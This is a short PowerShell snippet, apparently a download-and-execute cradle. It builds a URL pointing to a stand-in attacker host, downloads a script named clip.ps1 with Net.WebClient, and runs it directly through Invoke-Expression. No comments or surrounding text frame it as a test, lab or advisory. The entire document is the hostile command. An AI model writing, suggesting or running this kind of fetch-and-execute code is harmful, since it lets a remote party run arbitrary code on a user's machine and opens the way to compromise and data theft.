$u = "https://cdn.attacker.example/clip.ps1"
$code = (New-Object Net.WebClient).DownloadString($u)
Invoke-Expression $code
